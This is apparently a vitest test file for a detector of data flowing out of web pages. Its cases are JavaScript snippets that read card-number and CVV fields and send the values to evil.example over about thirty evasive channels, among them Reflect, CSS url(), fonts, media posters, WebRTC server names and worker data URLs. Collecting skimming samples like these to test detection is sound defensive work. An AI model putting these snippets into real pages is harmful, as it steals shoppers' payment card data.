// Unusual ways out of a page are known, so that no flow through them is missed.
import { expect, it } from 'vitest'
import { flows } from './look.ts'

const address = "'https://evil.example/?d=' + document.querySelector('#cc-number').value"
const style = `'a{background:url(' + ${address} + ')}'`

it.each([
  ['a function that is bound', `fetch.bind(window)(${address})`, 'fetch'],
  ['a function that is bound with its address', `const f = fetch.bind(null, ${address}); f()`, 'fetch'],
  ['a function that is called by call', `fetch.call(window, ${address})`, 'fetch'],
  ['a function that is called by apply', `navigator.sendBeacon.apply(navigator, [${address}])`, 'beacon'],
  ['Reflect.apply', `Reflect.apply(fetch, window, [${address}])`, 'fetch'],
  ['Reflect.get', `Reflect.get(window, 'fetch')(${address})`, 'fetch'],
  ['Reflect.construct', `Reflect.construct(WebSocket, [${address}])`, 'socket'],
  ['Reflect.set', `Reflect.set(new Image(), 'src', ${address})`, 'image'],
  ['a font', `new FontFace('x', 'url(' + ${address} + ')').load()`, 'image'],
  ['a sound', `new Audio(${address}).play()`, 'image'],
  ['the pictures of a picture', `new Image().srcset = ${address} + ' 2x'`, 'image'],
  ['the poster of a film', `document.createElement('video').poster = ${address}`, 'image'],
  ['a source of a film', `document.createElement('source').src = ${address}`, 'image'],
  ['a button that is a picture', `var i = document.createElement('input'); i.type = 'image'; i.src = ${address}`, 'image'],
  [
    'a picture of a drawing',
    `document.createElementNS('http://www.w3.org/2000/svg', 'image').setAttributeNS('x', 'xlink:href', ${address})`,
    'image',
  ],
  ['a ping', `document.createElement('a').ping = ${address}`, 'beacon'],
  ['WebTransport', `new WebTransport(${address})`, 'socket'],
  ['fetchLater', `fetchLater(${address})`, 'fetch'],
  ['a sheet of styles', `new CSSStyleSheet().replaceSync(${style})`, 'image'],
  ['a rule of styles', `document.styleSheets[0].insertRule(${style})`, 'image'],
  ['an element of styles', `var s = document.createElement('style'); s.textContent = ${style}; document.head.append(s)`, 'image'],
  ["jQuery's styles", `$('body').css({ background: 'url(' + ${address} + ')' })`, 'image'],
  ['an address that replaces that of the page', `location.replace(${address})`, 'navigation'],
  [
    'the host of a link',
    `var a = document.createElement('a'); a.href = '/x?' + ${address}; a.hostname = 'evil.example'; a.click()`,
    'link',
  ],
  [
    'the host of an address',
    `var u = new URL('/x', location); u.hostname = 'evil.example'; u.searchParams.set('a', ${address}); fetch(u)`,
    'fetch',
  ],
  ['an address that is read from another', `fetch(new URL('/x', 'https://evil.example'), { body: ${address} })`, 'fetch'],
  [
    'the name of a server',
    `new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + document.querySelector('#cvv').value + '.evil.example' }] })`,
    'rtc',
  ],
  [
    'the user of a server',
    `new RTCPeerConnection({ iceServers: [{ urls: ['turn:evil.example:3478'], username: document.querySelector('#cvv').value }] })`,
    'rtc',
  ],
  [
    'code within the address of a worker',
    `new SharedWorker('data:text/javascript,fetch("https://evil.example/?' + ${address} + '")')`,
    'worker',
  ],
])('%s', (_, text, way) => {
  expect(flows(text)).toContain(`card > ${way} evil.example`)
})

it('code that only resembles one is none: replacing in texts, bound listeners, pictures of the page', () => {
  expect(flows("document.querySelector('#cc-number').value.replace(/ /g, '')")).toEqual([])
  expect(flows("$('#cc-number').bind('change', function () { $(this).css('background', 'url(/ok.png)') })")).not.toContain(
    'card > image own',
  )
  expect(flows("new Image().srcset = '/a.png 1x, /b.png 2x'")).toEqual([])
})
